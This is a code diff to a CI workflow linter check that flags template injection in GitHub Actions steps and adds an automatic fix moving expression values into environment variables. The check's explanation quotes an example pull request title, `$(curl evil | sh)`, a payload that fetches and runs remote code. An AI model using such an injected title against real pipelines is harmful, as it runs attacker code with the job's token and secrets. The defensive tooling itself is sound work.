@@ -1,12 +1,27 @@
-import type { Answer } from "../../../domain/finding/finding.ts";
+import type { Answer, Fix } from "../../../domain/finding/finding.ts";
 import type { Expression } from "../../../domain/workflow/expression/expressions-in.ts";
 import { expressionsIn } from "../../../domain/workflow/expression/expressions-in.ts";
 import { flowingContexts } from "../../../domain/workflow/expression/walk-expression.ts";
+import { liftToEnv } from "../../../domain/workflow/fix/lift-to-env.ts";
 import { type Code, codeOf } from "../../../domain/workflow/injection/code-inputs.ts";
 import { gradeSource } from "../../../domain/workflow/injection/grade-source.ts";
-import { sourceOf } from "../../../domain/workflow/injection/origin.ts";
+import { type Origin, sourceOf } from "../../../domain/workflow/injection/origin.ts";
 import type { Step } from "../../../domain/workflow/model.ts";
 import { defineCheck } from "../../define-check.ts";
+
+/** Titles and names are one word to their script; an input may be meant as several, which quotes would join. */
+const ONE_WORD = new Set<Origin>(["event", "branch", "triager"]);
+
+function fixFor(step: Step, { text }: Code, expression: Expression): readonly Fix[] {
+  const { expr, from, to } = expression;
+  const edits = liftToEnv(step, { script: text, stretch: expression });
+  if (edits === undefined || expr === undefined) return [];
+  const isQuoted = /["']/.test(text.text[from - 1] ?? "") && /["']/.test(text.text[to] ?? "");
+  const isOneWord =
+    expr.kind === "context" && (isQuoted || ONE_WORD.has(sourceOf(expr, step).origin));
+  const safe = isOneWord && text === step.run;
+  return [{ title: "Hand the value over as a variable", safe, edits }];
+}
 
 function* inspect(step: Step, { text, what }: Code, expression: Expression): Generator<Answer> {
   const { expr, from, to, error } = expression;
@@ -22,7 +37,8 @@ function* inspect(step: Step, { text, what }: Code, expression: Expression): Gen
     const { severity, confidence, because } = grade;
     const name = text.text.slice(context.from, context.to);
     const message = `\`${name}\` is pasted into ${what}: ${because}`;
-    yield { message, at: text.at(context.from, context.to), severity, confidence };
+    const fixes = fixFor(step, { text, what }, expression);
+    yield { message, at: text.at(context.from, context.to), severity, confidence, fixes };
   }
   if (clean)
     yield {
@@ -40,6 +56,8 @@ export default defineCheck({
   aliases: ["zizmor:template-injection"],
   why: "The runner pastes the value of an expression into the script before the shell reads it. A pull request titled `$(curl evil | sh)` is then not printed but run, with the job's token and secrets.",
   fix: 'Hand the value over as a variable: `env: TITLE: ${{ … }}` on the step and `"$TITLE"` in the script.',
+
+  onlyWith: ["${{"],
 
   *step(step) {
     for (const code of codeOf(step))
